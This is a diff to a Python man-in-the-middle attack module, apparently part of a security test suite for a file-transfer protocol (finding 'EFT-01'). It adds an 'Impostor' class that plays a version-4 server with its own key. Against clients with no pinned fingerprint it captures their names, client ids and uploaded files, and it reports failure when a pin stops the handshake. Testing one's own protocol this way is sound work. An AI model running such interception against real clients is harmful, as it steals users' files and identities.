@@ -13,11 +13,21 @@ Run it where the victim's client connects (``--listen``), forwarding to ``--targ
 
 The server now stores our public key for this client, so later reconnects of the
 client only work through us: the interception is persistent.
+
+``--protocol 4``: the server proves its static key in message 2, so we play a whole
+version-4 server with a static key of our own (our own server's state machine over
+an in-memory registry) and read whatever the client uploads to us. A client that has
+the real server's fingerprint pinned (an earlier contact through us, relayed with
+``--relay-first N``, or a configured ``--server-fingerprint``) stops after our message
+2 with exit 7, before message 3: we learn no name, no key and no file. A client with
+no pin yet (its first contact, trust on first use) pins our key and sends us
+everything: that is the success case of this mode.
 """
 
 from __future__ import annotations
 
 import argparse
+import hashlib
 from pathlib import Path
 
 from Crypto.PublicKey import RSA
@@ -25,11 +35,16 @@ from Crypto.PublicKey import RSA
 from eft_protocol import crypto, errors
 from eft_protocol.cksum import cksum
 from eft_protocol.codes import RequestCode, ResponseCode
+from eft_protocol.noise import KeyPair
+from eft_protocol.registry import MemoryRegistry
+from eft_protocol.v4 import server as v4server
+from eft_protocol.v4.handshake import fingerprint
 
 from .common import Out, add_listen_argument, add_target_argument, preview
 from .framing import Frame, request, resliced, response
 from .proxy import Interceptor, MitmConnection, MitmProxy
 from .recording import Attempt, Recorder
+from .v4 import add_protocol_argument
 
 FINDING = "EFT-01"
 SUMMARY = "man in the middle swaps RSA keys, hands the client its own AES key, reads files"
@@ -40,6 +55,20 @@ def add_arguments(parser: argparse.ArgumentParser) -> None:
     add_listen_argument(parser)
     parser.add_argument("--out", help="directory to save the recovered files in")
     parser.add_argument("--record", help="also record the session to this file")
+    add_protocol_argument(parser)
+    parser.add_argument(
+        "--relay-first",
+        type=int,
+        default=0,
+        help="version 4: relay this many connections unchanged before playing the server "
+        "(the client's earlier, clean contacts) (0)",
+    )
+    parser.add_argument(
+        "--connections",
+        type=int,
+        default=1,
+        help="version 4: stop once this many clients we played the server for have gone (1)",
+    )
 
 
 class KeySwap(Interceptor):
@@ -137,7 +166,141 @@ class KeySwap(Interceptor):
         self.proxy.finish(any(e["cksum_matches_server"] for e in self.recovered))
 
 
+class Impostor(Interceptor):
+    """Version 4: play the server toward the client with a static key of our own."""
+
+    def __init__(self, out: Out, out_dir: Path | None, relay_first: int, wanted: int) -> None:
+        self.out, self.out_dir, self.relay_first = out, out_dir, relay_first
+        self.wanted, self.gone = wanted, 0
+        self.key = KeyPair.generate()
+        self.fingerprint = fingerprint(self.key.public)
+        self.connections = 0
+        self.relayed = 0
+        self.impersonated = 0
+        self.message_3 = 0  # clients that went on after our message 2
+        self.learned: list[dict[str, object]] = []  # names and client ids they revealed
+        self.recovered: list[dict[str, object]] = []
+        self._registry = MemoryRegistry()
+
+    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
+        scratch = conn.scratch
+        if "session" not in scratch and not scratch.get("relay"):
+            self.connections += 1
+            if self.connections <= self.relay_first:
+                scratch["relay"] = True
+                self.relayed += 1
+                self.out.step(f"connection {conn.number}: relayed unchanged (a clean contact)")
+            else:
+                self.impersonated += 1
+                scratch["session"] = v4server.ServerSessionV4(self.key, self._registry)
+                self.out.step(
+                    f"connection {conn.number}: answering as the server with our own key",
+                    fingerprint=self.fingerprint,
+                )
+        if scratch.get("relay"):
+            await conn.to_server(frame.raw)
+            return
+        session: v4server.ServerSessionV4 = scratch["session"]
+        if session.state is v4server.State.AWAITING_INTENT:
+            self.message_3 += 1
+        header = frame.raw[:23]
+        try:
+            session.payload_size(header)
+        except Exception as exc:  # an impostor says nothing either
+            self.out.step(f"client frame refused: {exc}")
+            conn.close_client()
+            return
+        await self._apply(conn, session, session.receive(header, frame.payload))
+
+    async def _apply(
+        self, conn: MitmConnection, session: v4server.ServerSessionV4, effects: list[object]
+    ) -> None:
+        scratch = conn.scratch
+        for effect in effects:
+            if isinstance(effect, v4server.SendFrame):
+                await conn.to_client(effect.frame)
+            elif isinstance(effect, v4server.Close):
+                conn.close_client()
+            elif isinstance(effect, v4server.OpenUpload):
+                scratch["upload"] = bytearray()
+                await self._apply(conn, session, session.upload_ready(0))
+            elif isinstance(effect, v4server.WriteChunk):
+                scratch["upload"] += effect.data
+            elif isinstance(effect, v4server.FinishUpload):
+                digest = hashlib.sha256(scratch["upload"]).digest()
+                await self._apply(conn, session, session.upload_complete(digest))
+            elif isinstance(effect, v4server.CommitUpload):
+                self._keep(effect.name, bytes(scratch.pop("upload")))
+            elif isinstance(effect, v4server.Notice) and effect.event in (
+                "registered",
+                "reconnected",
+            ):
+                learned = {"name": session.name, "client_id": effect.fields.get("client_id")}
+                self.learned.append(learned)
+                self.out.step(f"message 3 revealed the client: {effect.event}", **learned)
+
+    def _keep(self, name: str, plaintext: bytes) -> None:
+        entry: dict[str, object] = {
+            "file_name": name,
+            "size": len(plaintext),
+            "plaintext": preview(plaintext),
+        }
+        if self.out_dir is not None:
+            self.out_dir.mkdir(parents=True, exist_ok=True)
+            path = self.out_dir / Path(name).name
+            path.write_bytes(plaintext)
+            entry["saved"] = str(path)
+        self.out.step(f"the client uploaded {name!r} to us", size=len(plaintext))
+        self.recovered.append(entry)
+
+    async def server_frame(self, conn: MitmConnection, frame: Frame) -> None:
+        if conn.scratch.get("relay"):
+            await conn.to_client(frame.raw)
+
+    async def server_closed(self, conn: MitmConnection) -> None:
+        if conn.scratch.get("relay"):
+            conn.close_client()
+
+    async def client_closed(self, conn: MitmConnection) -> None:
+        conn.close_server()
+        if "session" in conn.scratch:
+            self.gone += 1
+            if self.gone >= self.wanted:
+                self.proxy.finish(bool(self.recovered))
+
+
+async def run_v4(args: argparse.Namespace, out: Out) -> bool:
+    out_dir = Path(args.out) if args.out else None
+    impostor = Impostor(out, out_dir, args.relay_first, args.connections)
+    recorder = Recorder(Path(args.record), args.target) if args.record else None
+    proxy = MitmProxy(args.target, impostor, out, recorder)
+    await proxy.run(args.listen, args.timeout)
+    fields = {
+        "fingerprint": impostor.fingerprint,
+        "relayed": impostor.relayed,
+        "impersonated": impostor.impersonated,
+        "message_3": impostor.message_3,
+        "learned": impostor.learned,
+        "files": impostor.recovered,
+    }
+    if impostor.recovered:
+        return out.result(
+            True,
+            f"the client trusted our key {impostor.fingerprint} and uploaded "
+            f"{len(impostor.recovered)} file(s) to us",
+            **fields,
+        )
+    said = "sent message 3" if impostor.message_3 else "never sent message 3"
+    return out.result(
+        False,
+        f"the client refused our key {impostor.fingerprint} and {said}: no name, no key, no file",
+        **fields,
+    )
+
+
 async def run(args: argparse.Namespace, out: Out) -> bool:
+    if args.protocol == 4:
+        return await run_v4(args, out)
     interceptor = KeySwap(out, Path(args.out) if args.out else None)
     recorder = Recorder(Path(args.record), args.target) if args.record else None
     proxy = MitmProxy(args.target, interceptor, out, recorder)
